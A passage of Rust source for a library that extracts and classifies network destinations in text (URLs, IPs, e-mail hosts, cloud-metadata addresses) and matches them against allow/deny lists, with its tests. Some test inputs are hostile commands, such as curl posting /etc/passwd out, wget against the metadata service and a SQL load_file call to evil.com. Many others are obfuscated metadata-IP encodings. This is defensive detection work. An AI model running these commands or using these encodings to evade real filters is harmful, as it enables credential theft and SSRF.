                bias = adapt(delta, h + 1, h == basic);
                delta = 0;
                h += 1;
            }
        }
        delta = delta.checked_add(1)?;
        n = n.checked_add(1)?;
    }
    Some(())
}

/// The class of a normalized host name.
pub fn classify_name(host: &str) -> Class {
    if METADATA_NAMES.contains(&host) {
        Class::Metadata
    } else if host == "localhost" || private_suffix(host) {
        Class::Private
    } else {
        Class::Public
    }
}

// ---- addresses ----

/// A label URL parsers read as a number: decimal digits, or `0x` and hex digits.
fn is_number_label(b: &[u8]) -> bool {
    if b.len() >= 2 && b[0] == b'0' && (b[1] | 0x20) == b'x' {
        b[2..].iter().all(u8::is_ascii_hexdigit)
    } else {
        !b.is_empty() && b.iter().all(u8::is_ascii_digit)
    }
}

/// WHATWG "ends in a number": such a host is an IPv4 address or invalid, never a name.
fn ends_in_number(host: &str) -> bool {
    host.rsplit(is_dot)
        .next()
        .is_some_and(|l| is_number_label(l.as_bytes()))
}

/// One WHATWG IPv4 number: `0x` hex, leading-zero octal, or decimal. Saturates far above
/// `u32::MAX`, so overlong input cannot overflow.
fn ipv4_number(p: &str) -> Option<u64> {
    let b = p.as_bytes();
    let (digits, radix) = if b.len() >= 2 && b[0] == b'0' && (b[1] | 0x20) == b'x' {
        (&b[2..], 16)
    } else if b.len() >= 2 && b[0] == b'0' {
        (&b[1..], 8)
    } else {
        (b, 10)
    };
    if b.is_empty() {
        return None;
    }
    let mut v: u64 = 0;
    for &c in digits {
        let d = u64::from(hex_value(c));
        if !c.is_ascii_hexdigit() || d >= radix {
            return None;
        }
        v = (v * radix + d).min(1 << 40);
    }
    Some(v)
}

/// The WHATWG URL IPv4 parser: 1 to 4 parts, each a number; the last fills the remaining
/// bytes (`127.1` is 127.0.0.1, `2852039166` is 169.254.169.254).
fn whatwg_ipv4(host: &str) -> Option<Ipv4Addr> {
    let mut parts = [0u64; 4];
    let mut count = 0;
    for p in host.split(is_dot) {
        if count == 4 {
            return None;
        }
        parts[count] = ipv4_number(p)?;
        count += 1;
    }
    if count == 0 || parts[..count - 1].iter().any(|&p| p > 255) {
        return None;
    }
    let last = parts[count - 1];
    if last >= 1u64 << (8 * (5 - count)) {
        return None;
    }
    let mut v = last;
    for (i, &p) in parts[..count - 1].iter().enumerate() {
        v += p << (8 * (3 - i));
    }
    u32::try_from(v).ok().map(Ipv4Addr::from)
}

/// The IPv4 address an IPv6 one carries: IPv4-mapped (`::ffff:a.b.c.d`), IPv4-compatible
/// (`::a.b.c.d`, not `::` or `::1`) and NAT64 (`64:ff9b::a.b.c.d`).
fn embedded_v4(v6: Ipv6Addr) -> Option<Ipv4Addr> {
    if let Some(v4) = v6.to_ipv4_mapped() {
        return Some(v4);
    }
    let s = v6.segments();
    let low = Ipv4Addr::from((u32::from(s[6]) << 16) | u32::from(s[7]));
    if s[..6] == [0; 6] && !v6.is_loopback() && !v6.is_unspecified() {
        return Some(low);
    }
    if s[..6] == [0x64, 0xff9b, 0, 0, 0, 0] {
        return Some(low);
    }
    None
}

fn classify_v4(ip: Ipv4Addr) -> Class {
    match ip.octets() {
        [169, 254, 169, 254] | [169, 254, 170, 2] | [100, 100, 100, 200] => Class::Metadata,
        [0 | 10 | 127, ..] | [169, 254, ..] | [192, 168, ..] => Class::Private,
        [100, 64..=127, ..] | [172, 16..=31, ..] => Class::Private,
        // Multicast, reserved and broadcast.
        [224..=255, ..] => Class::Private,
        _ => Class::Public,
    }
}

/// The class of an address; IPv6 forms that carry an IPv4 address get that address's class.
pub fn classify_ip(ip: IpAddr) -> Class {
    let v6 = match ip {
        IpAddr::V4(v4) => return classify_v4(v4),
        IpAddr::V6(v6) => v6,
    };
    if let Some(v4) = embedded_v4(v6) {
        return classify_v4(v4);
    }
    let s = v6.segments();
    if s == [0xfd00, 0xec2, 0, 0, 0, 0, 0, 0x254] {
        return Class::Metadata;
    }
    let private = v6.is_loopback()
        || v6.is_unspecified()
        || s[0] & 0xffc0 == 0xfe80 // link-local
        || s[0] & 0xffc0 == 0xfec0 // site-local (deprecated)
        || s[0] & 0xfe00 == 0xfc00 // unique-local
        || s[0] & 0xff00 == 0xff00; // multicast
    if private {
        Class::Private
    } else {
        Class::Public
    }
}

// ---- lists ----

/// An allow or deny list: host globs and IP networks.
#[derive(Clone, Debug, Default)]
pub struct DomainList {
    /// Normalized (ASCII lowercase, punycode) globs; `*` is any run of characters.
    globs: Vec<String>,
    nets: Vec<Net>,
}

/// An IP network; a single address is a full-length prefix.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
struct Net {
    addr: IpAddr,
    prefix: u8,
}

impl Net {
    fn contains(&self, ip: IpAddr) -> bool {
        match (self.addr, ip) {
            (IpAddr::V4(n), IpAddr::V4(a)) => {
                same_prefix(u32::from(n).into(), u32::from(a).into(), 32, self.prefix)
            }
            (IpAddr::V6(n), IpAddr::V6(a)) => {
                same_prefix(u128::from(n), u128::from(a), 128, self.prefix)
            }
            // `::ffff:10.0.0.1` is in 10.0.0.0/8.
            (IpAddr::V4(_), IpAddr::V6(a)) => {
                embedded_v4(a).is_some_and(|v4| self.contains(IpAddr::V4(v4)))
            }
            (IpAddr::V6(_), IpAddr::V4(_)) => false,
        }
    }
}

fn same_prefix(n: u128, a: u128, bits: u32, prefix: u8) -> bool {
    let p = u32::from(prefix);
    p == 0 || (n >> (bits - p)) == (a >> (bits - p))
}

fn parse_ip(s: &str) -> Option<IpAddr> {
    let s = s
        .strip_prefix('[')
        .and_then(|r| r.strip_suffix(']'))
        .unwrap_or(s);
    s.parse().ok()
}

impl DomainList {
    /// Compiles entries: host globs (`github.com`, `*.corp.example`; `*` is any run of
    /// characters including dots; compared case-insensitively on the normalized host), IP
    /// networks in CIDR notation (`10.0.0.0/8`, `fd00::/8`; host bits are ignored) and single
    /// addresses. The error names the bad entry and says what is wrong with it.
    pub fn new(entries: &[String]) -> Result<DomainList, String> {
        let mut list = DomainList::default();
        for entry in entries {
            let e = entry.trim();
            if e.is_empty() {
                return Err(
                    "empty entry: expected a host name, a glob, an IP address or a CIDR network"
                        .into(),
                );
            }
            if e.contains("://") {
                return Err(format!(
                    "`{e}`: a URL; write just the host (`example.com`) or a glob (`*.example.com`)"
                ));
            }
            if let Some((addr, prefix)) = e.split_once('/') {
                list.nets.push(parse_cidr(e, addr, prefix)?);
            } else if let Some(ip) = parse_ip(e) {
                let prefix = if ip.is_ipv4() { 32 } else { 128 };
                list.nets.push(Net { addr: ip, prefix });
            } else {
                list.globs.push(parse_glob(e)?);
            }
        }
        Ok(list)
    }

    /// Whether the destination's host matches a glob or its address is in a network.
    pub fn matches(&self, d: &Destination) -> bool {
        self.globs
            .iter()
            .any(|g| glob::matches_ascii_nocase(g, &d.host))
            || d.ip
                .is_some_and(|ip| self.nets.iter().any(|n| n.contains(ip)))
    }

    /// Whether a host name (any case, trailing dot allowed, Unicode allowed) matches a glob,
    /// or, when it is an IP address, a network. This is the `known` of `destinations`.
    pub fn matches_name(&self, host: &str) -> bool {
        let h = host.trim_end_matches('.');
        if h.is_ascii() {
            if self.globs.iter().any(|g| glob::matches_ascii_nocase(g, h)) {
                return true;
            }
        } else if let Some(n) = to_ascii_host(h) {
            if self.globs.iter().any(|g| glob::matches_ascii_nocase(g, &n)) {
                return true;
            }
        }
        !self.nets.is_empty()
            && parse_ip(h).is_some_and(|ip| self.nets.iter().any(|n| n.contains(ip)))
    }

    pub fn is_empty(&self) -> bool {
        self.globs.is_empty() && self.nets.is_empty()
    }
}

fn parse_cidr(entry: &str, addr: &str, prefix: &str) -> Result<Net, String> {
    let ip = parse_ip(addr).ok_or_else(|| format!("`{entry}`: `{addr}` is not an IP address"))?;
    let bits: u8 = if ip.is_ipv4() { 32 } else { 128 };
    if prefix.is_empty() || prefix.len() > 3 || !prefix.bytes().all(|c| c.is_ascii_digit()) {
        return Err(format!(
            "`{entry}`: bad CIDR prefix `/{prefix}` (expected a number of bits, 0 to {bits})"
        ));
    }
    let p: u8 =
        prefix.parse().ok().filter(|&p| p <= bits).ok_or_else(|| {
            format!("`{entry}`: bad CIDR prefix `/{prefix}` (at most {bits} bits)")
        })?;
    Ok(Net {
        addr: ip,
        prefix: p,
    })
}

fn parse_glob(entry: &str) -> Result<String, String> {
    if let Some(c) = entry.chars().find(|&c| {
        c.is_ascii() && !(c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '*'))
    }) {
        return Err(format!(
            "`{entry}`: unexpected {c:?} (expected a host name, a `*` glob, an IP address or a CIDR network)"
        ));
    }
    let e = entry.trim_end_matches('.');
    let mut out = String::with_capacity(e.len());
    for (i, label) in e.split('.').enumerate() {
        if label.is_empty() {
            return Err(format!("`{entry}`: empty label"));
        }
        if i > 0 {
            out.push('.');
        }
        if label.is_ascii() {
            out.push_str(&label.to_ascii_lowercase());
        } else if label.contains('*') {
            return Err(format!(
                "`{entry}`: `*` inside a Unicode label is not supported; write the label in punycode"
            ));
        } else {
            out.push_str(
                &to_ascii_host(label)
                    .ok_or_else(|| format!("`{entry}`: `{label}` is not a valid host label"))?,
            );
        }
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn none(_: &str) -> bool {
        false
    }

    fn found(s: &str) -> Vec<Destination> {
        let mut out = Vec::new();
        destinations(s, &none, &mut out);
        out
    }

    fn hosts(s: &str) -> Vec<String> {
        found(s).into_iter().map(|d| d.host).collect()
    }

    /// The one destination in `s`.
    fn one(s: &str) -> Destination {
        let mut d = found(s);
        assert_eq!(d.len(), 1, "{s:?}: {d:?}");
        d.remove(0)
    }

    fn list(entries: &[&str]) -> DomainList {
        let v: Vec<String> = entries.iter().map(|e| e.to_string()).collect();
        DomainList::new(&v).unwrap()
    }

    #[test]
    fn urls_of_any_scheme() {
        let d = one("see https://Example.COM/path?q=1#x");
        assert_eq!(
            (d.host.as_str(), d.kind, d.class),
            ("example.com", Kind::Url, Class::Public)
        );
        assert_eq!(d.ip, None);
        for (s, h) in [
            ("ftp://files.example.org:21/pub", "files.example.org"),
            ("wss://chat.example.net/socket", "chat.example.net"),
            ("gopher://hole.example:70/", "hole.example"),
            ("s3://my-bucket/key.txt", "my-bucket"),
            ("file://fileserver/share/a.txt", "fileserver"),
            ("jdbc:mysql://db.corp.example:3306/app", "db.corp.example"),
            ("http://user:p%40ss@evil.example/", "evil.example"),
            ("HTTP://EVIL.EXAMPLE", "evil.example"),
            ("http://evil.example./x", "evil.example"),
            ("[docs](https://docs.example.dev)", "docs.example.dev"),
            ("http:\\\\evil.example\\x", "evil.example"),
        ] {
            assert_eq!(hosts(s), [h], "{s}");
            assert_eq!(found(s)[0].kind, Kind::Url, "{s}");
        }
        // No host, no destination.
        assert!(found("file:///etc/passwd").is_empty());
        // The userinfo is not the destination; the host after the last `@` is.
        assert_eq!(hosts("http://good.example@evil.example/"), ["evil.example"]);
    }

    #[test]
    fn urls_inside_sql_and_shell() {
        assert_eq!(hosts("SELECT load_file('http://evil.com/x')"), ["evil.com"]);
        assert_eq!(hosts("curl -d @/etc/passwd https://x.io"), ["x.io"]);
        let d = one("wget 169.254.169.254/latest/meta-data");
        assert_eq!((d.kind, d.class), (Kind::Ip, Class::Metadata));
        assert_eq!(d.ip, Some(IpAddr::V4(Ipv4Addr::new(169, 254, 169, 254))));
        let d = one("scp f.txt user@host.example.com:/tmp");
        assert_eq!((d.host.as_str(), d.kind), ("host.example.com", Kind::Email));
        let d = one("git clone git@github.com:org/repo.git");
        assert_eq!((d.host.as_str(), d.kind), ("github.com", Kind::Email));
        // A URL inside a URL's query is found too, in order.
        assert_eq!(
            hosts("https://a.example.com/r?to=http://169.254.169.254/x"),
            ["a.example.com", "169.254.169.254"]
        );
        // curl reads `\@` differently from browsers: both hosts are reported.
        assert_eq!(
            hosts("curl 'http://good.com\\@evil.com/'"),
            ["good.com", "evil.com"]
        );
    }

    #[test]
    fn numeric_url_hosts_are_decoded() {
        for s in [
            "http://2852039166/",
            "http://0xA9FEA9FE/",
            "http://0xa9fea9fe/latest",
            "http://0251.0376.0251.0376/",
            "http://0xa9.0xfe.0xa9.0xfe/",
            "http://169.254.43518/",
            "http://169.16689662/",
            "http://0x00000000a9fea9fe/",
            "http://169.254.169.254./",
            "http://%31%36%39.254.169.254/",
            "http://169%2e254%2e169%2e254/",
        ] {
            let d = one(s);
            assert_eq!(d.host, "169.254.169.254", "{s}");
            assert_eq!((d.kind, d.class), (Kind::Url, Class::Metadata), "{s}");
            assert_eq!(
                d.ip,
                Some(IpAddr::V4(Ipv4Addr::new(169, 254, 169, 254))),
                "{s}"
            );
        }
        let d = one("http://127.1:8080/admin");
        assert_eq!((d.host.as_str(), d.class), ("127.0.0.1", Class::Private));
        let d = one("http://0/");
        assert_eq!((d.host.as_str(), d.class), ("0.0.0.0", Class::Private));
        // Numeric but not an address: reported as written, never as a name lookup.
        let d = one("http://256.256.256.256/");
        assert_eq!((d.host.as_str(), d.ip), ("256.256.256.256", None));
        let d = one("http://99999999999/");
        assert_eq!(d.ip, None);
        // Not numeric: a name.
        assert_eq!(one("http://1.2.3.example/").ip, None);
    }

    #[test]
    fn ipv6() {
        let d = one("http://[fd00:ec2::254]/latest/meta-data/");
        assert_eq!(
            (d.host.as_str(), d.kind, d.class),
            ("fd00:ec2::254", Kind::Url, Class::Metadata)
        );
        let d = one("http://[::ffff:169.254.169.254]/");
        assert_eq!(d.class, Class::Metadata);
        assert_eq!(one("http://[::ffff:a9fe:a9fe]/").class, Class::Metadata);
        let d = one("http://[fe80::1%25eth0]:80/");
        assert_eq!((d.host.as_str(), d.class), ("fe80::1", Class::Private));
        let d = one("connect to ::1 now");
        assert_eq!(
            (d.host.as_str(), d.kind, d.class),
            ("::1", Kind::Ip, Class::Private)
        );
        assert_eq!(one("[::1]:8080").host, "::1");
        assert_eq!(one("curl [fd00:ec2::254]").class, Class::Metadata);
        let d = one("addr ::ffff:169.254.169.254.");
        assert_eq!(
            (d.host.as_str(), d.class),
            ("::ffff:169.254.169.254", Class::Metadata)
        );
        assert_eq!(one("NAT64 64:ff9b::a9fe:a9fe").class, Class::Metadata);
        assert_eq!(one("2001:db8::1").class, Class::Public);
        assert_eq!(one("fe80::1%eth0").class, Class::Private);
        assert_eq!(one("fc00::5").class, Class::Private);
        // Times, paths and MACs are not addresses.
        for s in [
            "at 12:30:45 today",
            "std::vector<int> and a::b",
            "cafe::face",
            "Foo::Bar::baz()",
            "00:1a:2b:3c:4d:5e",
            "x :: Int",
            "ratio 1:2:3",
        ] {
            assert!(found(s).is_empty(), "{s}: {:?}", found(s));
        }
    }

    #[test]
    fn bare_ipv4() {
        let d = one("ping 10.0.0.1");
        assert_eq!(
            (d.host.as_str(), d.kind, d.class),
            ("10.0.0.1", Kind::Ip, Class::Private)
        );
        assert_eq!(one("db at 192.168.1.20:5432.").host, "192.168.1.20");
        assert_eq!(one("x=8.8.8.8;").class, Class::Public);
        assert_eq!(one("169.254.170.2").class, Class::Metadata);
        assert_eq!(one("100.100.100.200").class, Class::Metadata);
        assert_eq!(one("100.64.0.1").class, Class::Private);
        assert_eq!(one("172.31.255.255").class, Class::Private);
        assert_eq!(one("172.32.0.1").class, Class::Public);
        assert_eq!(one("255.255.255.255").class, Class::Private);
        assert_eq!(one("0.0.0.0").class, Class::Private);
        assert_eq!(one("wget 0251.0376.0251.0376").class, Class::Metadata);
        assert_eq!(hosts("range 10.0.0.1-10.0.0.9"), ["10.0.0.1", "10.0.0.9"]);
        let d = one("mail root@10.1.2.3");
        assert_eq!((d.kind, d.host.as_str()), (Kind::Email, "10.1.2.3"));
        for s in [
            "version 1.2.3",
            "pi is 3.14159",
            "1.2.3.4.5",
            "v1.2.3.4",
            "256.1.1.1",
            "2852039166",
            "127.1",
            "1.2.3.4a",
        ] {
            assert!(found(s).is_empty(), "{s}: {:?}", found(s));
        }
    }

    #[test]
    fn emails() {
        let d = one("write to John.Doe+tag@Sub.Example.co.uk.");
        assert_eq!(
            (d.host.as_str(), d.kind, d.class),
            ("sub.example.co.uk", Kind::Email, Class::Public)
        );
        assert_eq!(one("<ops@corp.example>").host, "corp.example");
        assert_eq!(one("mailto:a@b.example").host, "b.example");
        assert_eq!(one("root@localhost").class, Class::Private);
        let d = one("ssh admin@metadata.google.internal");
        assert_eq!((d.kind, d.class), (Kind::Email, Class::Metadata));
        // Package specs and decorators are not e-mail.
        for s in [
            "npm i lodash@4.17.21",
            "react@latest",
            "@app.route('/')",
            "@types/node",
            "a@b",
        ] {
            assert!(found(s).is_empty(), "{s}: {:?}", found(s));
        }
    }

    #[test]
    fn bare_hosts() {
        let d = one("fetch EXAMPLE.Com please");
        assert_eq!(
            (d.host.as_str(), d.kind, d.class),
            ("example.com", Kind::Host, Class::Public)
        );
        assert_eq!(hosts("curl api.github.com/repos"), ["api.github.com"]);
        assert_eq!(hosts("Visit evil.io, then bit.ly."), ["evil.io", "bit.ly"]);
        assert_eq!(hosts("exfil.attacker.xyz:443"), ["exfil.attacker.xyz"]);
        assert_eq!(hosts("http:/evil.com"), ["evil.com"]);
        assert_eq!(
            hosts("\\\\fileserver.corp.internal\\share"),
            ["fileserver.corp.internal"]
        );
        assert_eq!(hosts("see...example.org"), ["example.org"]);
        assert_eq!(
            hosts("a.example.com..b.example.net"),
            ["a.example.com", "b.example.net"]
        );
        let d = one("curl localhost:8080/admin");
        assert_eq!((d.host.as_str(), d.class), ("localhost", Class::Private));
        assert_eq!(one("wget LOCALHOST").host, "localhost");
        assert_eq!(one("api.localhost").class, Class::Private);
        assert_eq!(one("db.internal").class, Class::Private);
        assert_eq!(one("printer.local").class, Class::Private);
        assert_eq!(one("nas.home.arpa").class, Class::Private);
        assert_eq!(one("metadata.google.internal").class, Class::Metadata);
        assert_eq!(one("metadata.goog").class, Class::Metadata);
        assert_eq!(one("instance-data.ec2.internal").class, Class::Metadata);
        assert_eq!(
            one("http://metadata/computeMetadata/v1/").class,
            Class::Metadata
        );
        assert_eq!(one("http://instance-data/latest").class, Class::Metadata);
        assert_eq!(one("xn--80ak6aa92e.com").host, "xn--80ak6aa92e.com");
        assert_eq!(one("ip-10-0-0-1.ec2.internal").class, Class::Private);
        assert_eq!(one("setup.sh.example.com").host, "setup.sh.example.com");
    }

    #[test]
    fn non_hosts() {
        for s in [
            "open report.pdf and main.rs then data.csv",
            "SELECT u.name, o.total FROM users u JOIN orders o ON u.id = o.user_id",
            "SELECT users.id, orders.total FROM users",
            "release 1.2.3 costs 4.50 dollars",
            "e.g. this, i.e. that, U.S.A.",
            "logger.info(\"started\")",
            "self.page = window.top",
            "bash install.sh && g++ main.cc && perl run.pl",
            "./configure Makefile.in",
            "docker build -f Dockerfile.dev .",
            "cat scripts/deploy.io /var/www/example.com/index.html",
            "cp .env.local .env",
            "node.js and vue.js",
            "Hello world. This is a test: nothing here!",
            "metadata and instance-data are words",
            "",
            ":::...@@@%%%",
        ] {
            assert!(found(s).is_empty(), "{s}: {:?}", found(s));
        }
    }

    #[test]
    fn known_names_extend_the_tld_list() {
        let l = list(&["*.corp.example", "intranet.lan"]);
        let known = |h: &str| l.matches_name(h);
        let mut out = Vec::new();
        destinations(
            "push to git.corp.example and Intranet.LAN, not users.id",
            &known,
            &mut out,
        );
        let h: Vec<&str> = out.iter().map(|d| d.host.as_str()).collect();
        assert_eq!(h, ["git.corp.example", "intranet.lan"]);
        assert!(out.iter().all(|d| d.kind == Kind::Host));
        // Known overrides the code and file heuristics.
        let l = list(&["install.sh"]);
        let known = |h: &str| l.matches_name(h);
        let mut out = Vec::new();
        destinations("curl install.sh", &known, &mut out);
        assert_eq!(out.len(), 1);
    }

    #[test]
    fn unicode_hosts_become_punycode() {
        assert_eq!(one("bücher.de").host, "xn--bcher-kva.de");
        assert_eq!(one("BÜCHER.DE").host, "xn--bcher-kva.de");
        // A homograph of example.com (Cyrillic а) is not example.com.
        let d = one("login at ex\u{430}mple.com now");
        assert_eq!(
            (d.host.as_str(), d.kind),
            ("xn--exmple-4nf.com", Kind::Host)
        );
        assert_eq!(
            one("https://münchen.example/").host,
            "xn--mnchen-3ya.example"
        );
        assert_eq!(one("http://例え.jp/").host, "xn--r8jz45g.jp");
        assert_eq!(one("http://пример.рф/").host, "xn--e1afmkfd.xn--p1ai");
        assert_eq!(one("mail ivan@пример.рф").host, "xn--e1afmkfd.xn--p1ai");
        // Ideographic and fullwidth dots, fullwidth letters.
        assert_eq!(one("evil\u{3002}com").host, "evil.com");
        assert_eq!(one("evil\u{FF0E}com").host, "evil.com");
        assert_eq!(one("evil\u{FF61}io").host, "evil.io");
        assert_eq!(one("http://ｅｖｉｌ．ｃｏｍ/").host, "evil.com");
        assert_eq!(
            one("169\u{3002}254\u{3002}169\u{3002}254").class,
            Class::Metadata
        );
        // CJK prose does not glue onto a bare name.
        assert_eq!(hosts("请访问example.com获取"), ["example.com"]);
    }

    #[test]
    fn punycode_vectors() {
        for (u, p) in [
            ("bücher", "bcher-kva"),
            ("münchen", "mnchen-3ya"),
            ("пример", "e1afmkfd"),
            ("ドメイン名例", "eckwd4c7cu47r2wf"),
            ("faß", "fa-hia"),
        ] {
            let chars: Vec<char> = u.chars().collect();
            let mut out = String::new();
            punycode(&chars, &mut out).unwrap();
            assert_eq!(out, p, "{u}");
        }
        assert_eq!(to_ascii_host("a..b"), None);
        assert_eq!(to_ascii_host(&"a".repeat(64)), None);
        assert_eq!(to_ascii_host("a b.com"), None);
    }

    #[test]
    fn percent_encoded_text() {
        assert_eq!(
            hosts("https://good.example/r?u=http%3A%2F%2F169.254.169.254%2F"),
            ["good.example", "169.254.169.254"]
        );
        assert_eq!(one("http%253A%252F%252Fevil.example").host, "evil.example");
        assert_eq!(one("http://ev%69l.example/").host, "evil.example");
        assert!(found("100%ABC").is_empty());
    }

    #[test]
    fn classify() {
        let c = |s: &str| classify_ip(s.parse().unwrap());
        assert_eq!(c("169.254.169.254"), Class::Metadata);
        assert_eq!(c("::ffff:169.254.169.254"), Class::Metadata);
        assert_eq!(c("::169.254.169.254"), Class::Metadata);
        assert_eq!(c("fd00:ec2::254"), Class::Metadata);
        assert_eq!(c("127.255.0.1"), Class::Private);
        assert_eq!(c("::"), Class::Private);
        assert_eq!(c("::1"), Class::Private);
        assert_eq!(c("::ffff:10.0.0.1"), Class::Private);
        assert_eq!(c("224.0.0.1"), Class::Private);
        assert_eq!(c("ff02::1"), Class::Private);
        assert_eq!(c("1.1.1.1"), Class::Public);
        assert_eq!(c("2606:4700::1111"), Class::Public);
        assert_eq!(classify_name("foo.localhost"), Class::Private);
        assert_eq!(classify_name("localhost.example.com"), Class::Public);
        assert_eq!(classify_name("evilinternal"), Class::Public);
    }

    #[test]
    fn domain_list_globs() {
        let l = list(&["*.corp.example", "GitHub.com"]);
        let host = |h: &str| Destination {
            host: h.to_owned(),
            ip: None,
            kind: Kind::Host,
            class: Class::Public,
        };
        assert!(l.matches(&host("a.corp.example")));
        assert!(l.matches(&host("a.b.corp.example")));
        assert!(!l.matches(&host("corp.example")));
        assert!(!l.matches(&host("corp.example.evil.com")));
        assert!(!l.matches(&host("evilcorp.example")));
        assert!(l.matches(&host("github.com")));
        assert!(!l.matches(&host("api.github.com")));
        assert!(l.matches_name("A.Corp.Example."));
        assert!(l.matches_name("GITHUB.COM"));
        assert!(!l.matches_name("github.co"));
        assert!(!l.is_empty());
        assert!(list(&[]).is_empty());
        let idn = list(&["bücher.de", "*.münchen.example"]);
        assert!(idn.matches(&one("https://bücher.de/")));
        assert!(idn.matches(&one("https://www.münchen.example/")));
        assert!(idn.matches_name("BÜCHER.de"));
        let all = list(&["*"]);
        assert!(all.matches(&one("x.io")));
        // Globs also match addresses as text.
        assert!(list(&["192.168.*"]).matches(&one("192.168.4.4")));
    }

    #[test]
    fn domain_list_networks() {
        let l = list(&[
            "10.0.0.0/8",
            "fd00::/8",
            "169.254.169.254",
            "[::1]",
            "172.16.5.9/12",
        ]);
        let ip = |s: &str| one(s);
        assert!(l.matches(&ip("10.200.0.1")));
        assert!(!l.matches(&ip("11.0.0.1")));
        assert!(l.matches(&ip("http://[fd12::1]/")));
        assert!(!l.matches(&ip("http://[fe80::1]/")));
        assert!(l.matches(&ip("http://2852039166/")));
        assert!(l.matches(&ip("http://[::ffff:10.1.1.1]/")));
        assert!(l.matches(&ip("::1")));
        assert!(l.matches(&ip("172.31.0.1")));
        assert!(!l.matches(&ip("example.com")));
        assert!(l.matches_name("10.1.2.3"));
        assert!(list(&["0.0.0.0/0"]).matches(&ip("8.8.8.8")));
        assert!(list(&["::/0"]).matches(&ip("2001:db8::1")));
    }

    #[test]
    fn domain_list_errors() {
        let err = |e: &str| DomainList::new(&[e.to_owned()]).unwrap_err();
        assert!(
            err("10.0.0.0/33").contains("bad CIDR prefix"),
            "{}",
            err("10.0.0.0/33")
        );
        assert!(err("10.0.0.0/33").contains("`10.0.0.0/33`"));
        assert!(err("fd00::/129").contains("at most 128"));
        assert!(err("10.0.0.0/").contains("bad CIDR prefix"));
        assert!(err("10.0.0.0/+8").contains("bad CIDR prefix"));
        assert!(err("10.0.0/8").contains("not an IP address"));
        assert!(err("https://example.com").contains("URL"));
        assert!(err("example.com:443").contains("unexpected ':'"));
        assert!(err("a..b").contains("empty label"));
        assert!(err(" ").contains("empty entry"));
        assert!(err("*.bü*cher.de").contains("Unicode label"));
    }

    #[test]
    fn order_of_appearance() {
        let d = found("a@mail.example then http://[::1]/ then 8.8.4.4 then example.org");
        let k: Vec<Kind> = d.iter().map(|d| d.kind).collect();
        assert_eq!(k, [Kind::Email, Kind::Url, Kind::Ip, Kind::Host]);
    }

    #[test]
    fn never_panics() {
        let samples = [
            "\u{0}\u{7f}\u{80}\u{10ffff}",
            "http://",
            "http://[",
            "http://[]",
            "http://@",
            "http://a@",
            "://x.com",
            "x://",
            "%",
            "%2",
            "%zz%e3%80",
            "%E3%80%82com",
            "a.\u{3002}.b",
            "\u{3002}\u{3002}\u{3002}",
            "é.é.é",
            ".",
            "..",
            "@",
            "@@.",
            "::",
            ":",
            "[::",
            "0x.0x.0x.0x",
            "http://0x/",
            "http://0x.0x/",
            "http://..../",
            "ß.com",
            "İstanbul.com",
            "\u{212A}elvin.com",
        ];
        for s in samples {
            let _ = found(s);
            for cut in 0..s.len() {
                if let Some(p) = s.get(..cut) {
                    let _ = found(p);
                }
            }
        }
        assert_eq!(one("\u{212A}elvin.com").host, "kelvin.com");
        // Pseudo-random strings over an alphabet of delimiters and host characters.
        let alphabet: Vec<char> = "aZ09.:@%/[]-_+x\u{3002}\u{FF0E}é例 \\'\"("
            .chars()
            .collect();
        let mut seed = 0x2545_f491_u64;
        for _ in 0..3000 {
            let mut s = String::new();
            for _ in 0..(seed % 40) {
                seed ^= seed << 13;
                seed ^= seed >> 7;
                seed ^= seed << 17;
                s.push(alphabet[(seed % alphabet.len() as u64) as usize]);
            }
            let _ = found(&s);
            seed = seed.wrapping_add(1);
        }
    }

    #[test]
    fn long_inputs_are_linear() {
        let big = "a.".repeat(200_000) + "com";
        let _ = found(&big);
        let words = "users.id 1.2.3 report.pdf ".repeat(20_000);
        assert!(found(&words).is_empty());
        let host = format!("http://{}.com/", "é".repeat(100_000));
        assert_eq!(found(&host).len(), 1);
        let colons = ":".repeat(100_000) + "1";
        let _ = found(&colons);
    }

    // ---- boundaries the mutation run found untested ----

    /// `known` for a policy that lists everything: only what is a valid name is asked about.
    fn all(_: &str) -> bool {
        true
    }

    fn found_known(s: &str) -> Vec<String> {
        let mut out = Vec::new();
        destinations(s, &all, &mut out);
        out.into_iter().map(|d| d.host).collect()
    }

    /// A combining mark is part of the label it follows (`café` with U+0301); a symbol ends
    /// a URL host or a bare name.
    #[test]
    fn combining_marks_belong_to_names_symbols_end_them() {
        assert_eq!(
            one("http://cafe\u{301}.example/").host,
            "xn--cafe-yvc.example"
        );
        assert_eq!(one("cafe\u{301}.com").host, "xn--cafe-yvc.com");
        assert_eq!(hosts("see http://evil.com\u{2014}x/"), ["evil.com"]);
        assert_eq!(hosts("2\u{d7}evil.com"), ["evil.com"]);
        // U+0800 (and all above it but the fullwidth forms) ends a bare name: CJK prose.
        assert_eq!(hosts("\u{800}evil.com"), ["evil.com"]);
        // A letter whose UTF-8 ends in byte 0x80 (U+0400) is part of the name.
        assert_eq!(hosts("\u{400}x.com"), ["xn--x-1ub.com"]);
    }

    /// Only valid `%XX` escapes are decoded; a `%` with a non-hex digit stays as written.
    #[test]
    fn invalid_percent_escapes_stay_as_written() {
        assert_eq!(hosts("%41 evil%g1.com"), ["g1.com"]);
        assert_eq!(hosts("%41 evil%1g.com"), ["1g.com"]);
    }

    /// Two dots in a row (ASCII or Unicode) separate two names, in Unicode text too; one
    /// leading dot is a dotfile, two or more an ellipsis.
    #[test]
    fn double_dots_split_unicode_names() {
        assert_eq!(
            hosts("bücher.de..münchen.de"),
            ["xn--bcher-kva.de", "xn--mnchen-3ya.de"]
        );
        assert_eq!(
            hosts("bücher.de\u{3002}\u{3002}x.de"),
            ["xn--bcher-kva.de", "x.de"]
        );
        assert!(found("cp .bücher.de x").is_empty());
        assert_eq!(hosts("..bücher.de"), ["xn--bcher-kva.de"]);
        assert_eq!(hosts("..evil.com"), ["evil.com"]);
        assert_eq!(hosts("x:...evil.com"), ["evil.com"]);
        assert_eq!(hosts("see a..evil.com. now"), ["evil.com"]);
    }

    /// The start of a word is found by looking back once: a long run of blanks before a host
    /// does not make the scan quadratic.
    #[test]
    fn a_long_gap_before_a_host_is_crossed_once() {
        let s = format!("{}x.com", " ".repeat(300_000));
        assert_eq!(hosts(&s), ["x.com"]);
        let s = format!("{}x.com", "\u{2014}".repeat(100_000));
        assert_eq!(hosts(&s), ["x.com"]);
    }

    /// The word before a URL's scheme is judged on its own (`host:http://...` of some tools),
    /// with its own flags; a scheme starts with a letter.
    #[test]
